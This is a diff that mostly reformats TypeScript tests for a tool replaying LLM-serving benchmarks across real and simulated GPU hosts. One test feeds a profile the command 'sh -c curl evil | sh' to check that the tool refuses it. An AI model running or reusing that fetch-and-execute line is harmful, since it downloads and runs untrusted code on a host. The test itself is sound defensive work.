@@ -28,7 +28,9 @@ describe('hostDifferences', () => {
     ]);
   });
   it('treats catalog aliases as the same GPU and says when the engine is missing', () => {
-    expect(hostDifferences(qwen, { ...here, gpuName: 'H100' }, undefined)).toEqual(['engine: sglang not found here (tuned with 0.5.5.post1)']);
+    expect(hostDifferences(qwen, { ...here, gpuName: 'H100' }, undefined)).toEqual([
+      'engine: sglang not found here (tuned with 0.5.5.post1)',
+    ]);
   });
   it('says when the replay is simulated', () => {
     expect(hostDifferences(qwen, { ...here, simulated: true }, undefined)).toEqual([
@@ -39,19 +41,51 @@ describe('hostDifferences', () => {
 
 describe('scenarioForWorkload', () => {
   it('replays a random workload as recorded', () => {
-    const w = { scenario: 'random-2000-100', label: 'medium 2000/100', dataset: 'random' as const, inputLen: 2000, outputLen: 100, numPrompts: 50, seed: 42, maxConcurrency: 8, requestRate: null };
+    const w = {
+      scenario: 'random-2000-100',
+      label: 'medium 2000/100',
+      dataset: 'random' as const,
+      inputLen: 2000,
+      outputLen: 100,
+      numPrompts: 50,
+      seed: 42,
+      maxConcurrency: 8,
+      requestRate: null,
+    };
     const { scenario, note } = scenarioForWorkload(w, { simulated: false });
     expect(note).toBeUndefined();
-    expect(scenario).toEqual({ name: 'random-2000-100', label: 'medium 2000/100', dataset: 'random', inputLen: 2000, outputLen: 100, numPrompts: 50, seed: 42, maxConcurrency: 8 });
-    expect(workloadFromScenario(scenario)).toMatchObject({ scenario: 'random-2000-100', inputLen: 2000, maxConcurrency: 8, requestRate: null });
+    expect(scenario).toEqual({
+      name: 'random-2000-100',
+      label: 'medium 2000/100',
+      dataset: 'random',
+      inputLen: 2000,
+      outputLen: 100,
+      numPrompts: 50,
+      seed: 42,
+      maxConcurrency: 8,
+    });
+    expect(workloadFromScenario(scenario)).toMatchObject({
+      scenario: 'random-2000-100',
+      inputLen: 2000,
+      maxConcurrency: 8,
+      requestRate: null,
+    });
   });
   it('needs the ShareGPT file on a real host, and says so in one line', () => {
-    expect(() => scenarioForWorkload(qwen.workload, { simulated: false })).toThrow(/^the recorded workload is ShareGPT: pass --dataset-path FILE/);
+    expect(() => scenarioForWorkload(qwen.workload, { simulated: false })).toThrow(
+      /^the recorded workload is ShareGPT: pass --dataset-path FILE/,
+    );
     expect(() => scenarioForWorkload(qwen.workload, { simulated: true, datasetPath: '/nonexistent/sg.json' })).toThrow(/no such file/);
   });
   it('uses the ShareGPT-like stand-in on the simulated host, with a note', () => {
     const { scenario, note } = scenarioForWorkload(qwen.workload, { simulated: true });
-    expect(scenario).toMatchObject({ name: 'sharegpt-like', dataset: 'custom', numPrompts: 1000, seed: qwen.workload.seed, maxConcurrency: null });
+    expect(scenario).toMatchObject({
+      name: 'sharegpt-like',
+      dataset: 'custom',
+      numPrompts: 1000,
+      seed: qwen.workload.seed,
+      maxConcurrency: null,
+    });
     expect(scenario.datasetPath).toMatch(/sharegpt-like-n1000-s\d+\.jsonl$/);
     expect(note).toMatch(/stand-in/);
   });
@@ -61,8 +95,12 @@ describe('replay exit codes', () => {
   const m = qwen.metrics;
   it('0 ok or faster, 3 regression, 1 nothing measured', () => {
     expect(replayExitCode(judgeReplay({ recorded: m, now: m, tolerancePct: 5 }))).toBe(0);
-    expect(replayExitCode(judgeReplay({ recorded: m, now: { ...m, total_token_throughput: m.total_token_throughput * 2 }, tolerancePct: 5 }))).toBe(0);
-    expect(replayExitCode(judgeReplay({ recorded: { ...m, total_token_throughput: m.total_token_throughput * 2 }, now: m, tolerancePct: 5 }))).toBe(3);
+    expect(
+      replayExitCode(judgeReplay({ recorded: m, now: { ...m, total_token_throughput: m.total_token_throughput * 2 }, tolerancePct: 5 })),
+    ).toBe(0);
+    expect(
+      replayExitCode(judgeReplay({ recorded: { ...m, total_token_throughput: m.total_token_throughput * 2 }, now: m, tolerancePct: 5 })),
+    ).toBe(3);
     expect(replayExitCode(null)).toBe(1);
   });
 });
@@ -85,10 +123,12 @@ describe('serveSpec', () => {
     expect(moved.argv).toEqual([...qwen.engineArgv, '--port', '31000']);
     expect(moved.port).toBe(31000);
   });
-  it('runs sim-serve with the profile\'s GPU on the simulated host', () => {
+  it("runs sim-serve with the profile's GPU on the simulated host", () => {
     const spec = serveSpec(deepseekR1Study(), { sim: true, speed: 2, runDir: '/tmp/x', port: 31001 });
     expect(launcherOf(spec.argv)).toBe('sim');
-    expect(spec.argv.join(' ')).toMatch(/sim-serve --engine sglang --model deepseek-ai\/DeepSeek-R1-0528 .*--gpu H200 --gpus 8 .*--port 31001 --speed 2/);
+    expect(spec.argv.join(' ')).toMatch(
+      /sim-serve --engine sglang --model deepseek-ai\/DeepSeek-R1-0528 .*--gpu H200 --gpus 8 .*--port 31001 --speed 2/,
+    );
     expect(launcherOf(spec.engineArgv)).toBe('sglang');
   });
 });
@@ -99,7 +139,14 @@ describe('prepareReplay of the shipped profiles on the simulated host', () => {
     const { studyProfiles } = await import('../../src/profiles/studies.js');
     for (const p of studyProfiles()) {
       const setup = await prepareReplay(p, 'p.json', {
-        sim: true, speed: 20, tolerancePct: 5, readyTimeoutS: 60, logsDir: '/tmp/unused', bindHost: '127.0.0.1', portStart: 30500, allowAnyCommand: false,
+        sim: true,
+        speed: 20,
+        tolerancePct: 5,
+        readyTimeoutS: 60,
+        logsDir: '/tmp/unused',
+        bindHost: '127.0.0.1',
+        portStart: 30500,
+        allowAnyCommand: false,
       });
       expect(launcherOf(setup.spec.argv)).toBe('sim');
       expect(setup.spec.argv.join(' ')).toContain(`--gpus ${p.host.gpuCount}`);
@@ -114,19 +161,46 @@ describe('prepareReplay of the shipped profiles on the simulated host', () => {
     const p = qwen3Study();
     p.engineArgv = ['sh', '-c', 'curl evil | sh'];
     await expect(
-      prepareReplay(p, 'evil.json', { sim: true, speed: 20, tolerancePct: 5, readyTimeoutS: 60, logsDir: '/tmp/unused', bindHost: '127.0.0.1', portStart: 30500, allowAnyCommand: false }),
+      prepareReplay(p, 'evil.json', {
+        sim: true,
+        speed: 20,
+        tolerancePct: 5,
+        readyTimeoutS: 60,
+        logsDir: '/tmp/unused',
+        bindHost: '127.0.0.1',
+        portStart: 30500,
+        allowAnyCommand: false,
+      }),
     ).rejects.toThrow(/profile evil\.json: refusing to run 'sh -c/);
   });
 });
 
 describe('sharegpt-like workloads written without their range ratio', () => {
-  it('replay with the stand-in\'s spread', () => {
-    const w = { scenario: 'sharegpt-like', dataset: 'random' as const, inputLen: 217, outputLen: 201, numPrompts: 50, seed: 42, maxConcurrency: null, requestRate: null };
+  it("replay with the stand-in's spread", () => {
+    const w = {
+      scenario: 'sharegpt-like',
+      dataset: 'random' as const,
+      inputLen: 217,
+      outputLen: 201,
+      numPrompts: 50,
+      seed: 42,
+      maxConcurrency: null,
+      requestRate: null,
+    };
     expect(scenarioForWorkload(w, { simulated: true }).scenario.rangeRatio).toBe(0.9);
   });
 
   it('also when the session capped the concurrency (sharegpt-like-c16)', () => {
-    const w = { scenario: 'sharegpt-like-c16', dataset: 'random' as const, inputLen: 217, outputLen: 201, numPrompts: 50, seed: 42, maxConcurrency: 16, requestRate: null };
+    const w = {
+      scenario: 'sharegpt-like-c16',
+      dataset: 'random' as const,
+      inputLen: 217,
+      outputLen: 201,
+      numPrompts: 50,
+      seed: 42,
+      maxConcurrency: 16,
+      requestRate: null,
+    };
     expect(scenarioForWorkload(w, { simulated: true }).scenario).toMatchObject({ rangeRatio: 0.9, maxConcurrency: 16 });
     expect(scenarioForWorkload({ ...w, scenario: 'random-217-201' }, { simulated: true }).scenario.rangeRatio).toBeUndefined();
   });
